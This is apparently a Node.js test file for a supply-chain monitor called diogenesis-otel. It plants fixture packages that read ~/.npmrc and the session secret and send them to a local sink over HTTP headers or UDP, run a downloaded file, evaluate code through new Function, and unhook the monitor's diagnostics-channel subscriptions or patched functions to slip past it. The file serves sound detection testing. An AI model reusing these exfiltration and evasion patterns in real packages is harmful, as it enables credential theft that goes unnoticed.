import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { VictimApp } from '../support/victim-app.ts';

/*
 * A connection that was found ordinary a moment ago is attributed, and not weighed again. Whatever happens then must be
 * told as if nothing had been done before.
 */
const CLIENT = `
const http = require('node:http'), fs = require('node:fs'), os = require('node:os'), path = require('node:path');
const { channel } = require('node:diagnostics_channel');
const dgram = require('node:dgram');
const agent = new http.Agent({ keepAlive: true });
const npmrc = path.join(os.homedir(), '.npmrc');
const get = (headers = {}) => new Promise((done) =>
  http.get(process.env.SINK, { headers, agent }, (response) => response.resume().on('end', done)).on('error', done));
exports.poll = () => get();
exports.post = (done) =>
  http.request(process.env.SINK, { method: 'POST', agent }, (response) => response.resume().on('end', done));
const socket = dgram.createSocket('udp4');
socket.unref();
exports.send = () => new Promise((done) => socket.send('x', 9999, '127.0.0.1', done));
`;
/* More than are looked at in full before it pays to look at stacks in another way. */
const OFTEN = 300;
const SECRET = 'sEdTM1uX8pu2do5XvTnutH6HsouMaM2';

interface Story {
  /** What `labels` does besides. */
  readonly labels?: string;
  /** Another package. */
  readonly other?: string;
  /** What the application does again and again. */
  readonly routine?: string;
  /** What comes then. */
  readonly next: string;
  readonly mode?: string;
  /** Loaded before Diogenesis. */
  readonly before?: string;
}
interface Told {
  readonly findings: readonly string[];
  readonly weighed: number;
  readonly known: number;
  readonly novel: number;
}

async function told(times: number, story: Story): Promise<Told> {
  const { labels = '', other = '', routine = 'await labels.poll();', next, mode = 'observe', before = '' } = story;
  await using app = await VictimApp.create();
  app.labels('1.0.1', CLIENT + labels);
  app.folder.package('other', '1.0.0', other, {}, 'app/node_modules/other');
  app.write('before.js', before);
  app.write(
    'main.js',
    `const { addPattern, connectionGraph, threatSummary } = require('diogenesis-otel');
     const labels = require('labels');
     const other = require('other');
     (async () => {
       for (let i = 0; i < Number(process.env.TIMES); i++) { ${routine} }
       ${next}
       const { edges } = connectionGraph();
       const { count } = edges.find(({ from, to }) => from.startsWith('labels@') && to.startsWith('net:'));
       console.log(JSON.stringify({ weighed: count, ...threatSummary().agents.net, findings: undefined }));
       process.exit();
     })();`,
  );
  const env = { TIMES: String(times), SESSION_SECRET: SECRET, DIOGENESIS_MODE: mode };
  const ran = await app.run(['--require', './before.js', '--require', 'diogenesis-otel/register', 'main.js'], env);
  assert.equal(ran.code, 0, ran.stderr);
  const findings = app
    .findings()
    .map(({ level, rule, trait, package: { name }, blocked }) => `${level} ${rule.name} ${name} ${trait} ${blocked}`);
  return { ...JSON.parse(ran.stdout), findings: findings.sort() };
}

/** The same after one act and after many. */
async function assertAsTold(rule: string, story: Story): Promise<void> {
  const [once, often] = [await told(1, story), await told(OFTEN, story)];
  assert(
    once.findings.some((one) => one.includes(rule)),
    JSON.stringify(once.findings),
  );
  assert.deepEqual(often.findings, once.findings);
  assert(often.known >= OFTEN - 1, `all are counted: ${often.known}`);
  assert(often.weighed < OFTEN / 2, `most are not weighed: ${often.weighed}`);
  if (story.mode === 'block') assert(often.findings.some((one) => one.endsWith('true')));
}

describe('a package that polls a server, and then', () => {
  it('goes on: counted, and not weighed', async () => {
    const { findings, weighed, known } = await told(OFTEN, { next: '' });
    assert.deepEqual([findings, known], [[], OFTEN - 1]);
    assert(weighed < OFTEN / 2, `${weighed}`);
  });

  it('takes a secret and sends something there', () =>
    assertAsTold('secret_after_network', {
      labels: `exports.act = () => { fs.readFileSync(npmrc); return get(); };`,
      next: 'await labels.act();',
    }));

  it('sends a secret there that it was handed', () =>
    assertAsTold('carried_secret', {
      labels: `exports.act = (secret) => get({ 'x-trace': secret });`,
      next: 'await labels.act(process.env.SESSION_SECRET);',
    }));

  it('runs what comes from there', () =>
    assertAsTold('download_write_run', {
      labels: `const file = path.join(os.tmpdir(), 'diogenesis-' + process.pid);
        exports.act = async () => {
          await get(); fs.writeFileSync(file, '#!/bin/sh\\n', { mode: 0o700 });
          await new Promise((done) => require('node:child_process').execFile(file, done)); fs.unlinkSync(file);
        };`,
      next: 'await labels.act();',
    }));

  it('another package goes there, through the same client', async () => {
    const story = { other: `exports.go = (labels) => labels.poll();`, next: 'await other.go(labels);' };
    const [once, often] = [await told(1, story), await told(OFTEN, story)];
    assert.deepEqual(often.findings, once.findings);
    assert.deepEqual([often.known, often.novel], [once.known + OFTEN - 1, once.novel]);
    assert.equal(once.novel, 2, 'of labels, and of whoever has it do so');
  });

  it('another package, which has the application make a request, puts a secret into it', () =>
    assertAsTold('secret_to_known_network', {
      routine: 'await new Promise((done) => labels.post(done).end());',
      other: `const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
        exports.act = (post) => new Promise((done) => {
          const request = post(done);
          fs.readFileSync(path.join(os.homedir(), '.npmrc'));
          request.setHeader('x-trace', process.env.SESSION_SECRET);
          request.end();
        });`,
      next: 'await other.act((done) => labels.post(done));',
    }));

  it('has text that it made into code act through the application', () =>
    assertAsTold('text_code_acts', {
      labels: `exports.act = (go) => new Function('go', 'return go()')(go);`,
      next: 'const go = () => labels.poll(); await labels.act(() => go());',
    }));

  it('takes our subscription off while it sends a secret', () =>
    assertAsTold('tampered', {
      labels: `exports.act = async (secret) => {
          const ours = channel('http.client.request.start');
          const list = [...ours._subscribers];
          for (const one of list) ours.unsubscribe(one);
          await get({ 'x-trace': secret });
          for (const one of list) ours.subscribe(one);
        };`,
      next: 'await labels.act(process.env.SESSION_SECRET);',
    }));

  it('puts Node’s own function back meanwhile', () =>
    assertAsTold('tampered', {
      before: `globalThis.own = require('node:fs').readFileSync;`,
      labels: `exports.act = async () => {
          const ours = fs.readFileSync;
          fs.readFileSync = globalThis.own;
          await get();
          fs.readFileSync = ours;
        };`,
      next: 'await labels.act();',
    }));

  it('somebody stands in its way to the network, for good or for one request', async () => {
    const wrap = `const http = require('node:http'); const { prototype } = http.ClientRequest; const { end } = prototype;
      const on = () => { prototype.end = function taken(...args) { globalThis.taken = args; return end.apply(this, args); }; };`;
    const go = `exports.go = () => new Promise((done) => http.get(process.env.SINK, (response) => response.resume().on('end', done)));`;
    await assertAsTold('network_function_replaced', {
      other: `${wrap} exports.on = on; exports.off = () => { prototype.end = end; }; ${go}`,
      next: 'other.on(); await labels.poll(); other.off(); await other.go();',
    });
    await assertAsTold('network_function_replaced', {
      other: `${wrap} exports.on = on; ${go}`,
      next: 'other.on(); await labels.poll(); await other.go();',
    });
  });

  it('a pattern is added that it fits', () =>
    assertAsTold('mine', {
      next: `addPattern({ name: 'mine', description: 'x', level: 'WARN', sequence: ['net.connect:*'] }); await labels.poll();`,
    }));
});

describe('a package that sends datagrams', () => {
  const story = {
    routine: 'await labels.send();',
    other: `const dgram = require('node:dgram'), fs = require('node:fs'), os = require('node:os'), path = require('node:path');
      exports.act = () => new Promise((done) => {
        const secret = fs.readFileSync(path.join(os.homedir(), '.npmrc'));
        dgram.createSocket('udp4').send(secret, 9999, '127.0.0.1', done);
      });`,
    next: 'await other.act();',
  };

  it('does not cover for another that sends a secret there', () => assertAsTold('secret_to_network', story));

  it('nor where that is refused', () => assertAsTold('secret_to_network', { ...story, mode: 'block' }));
});
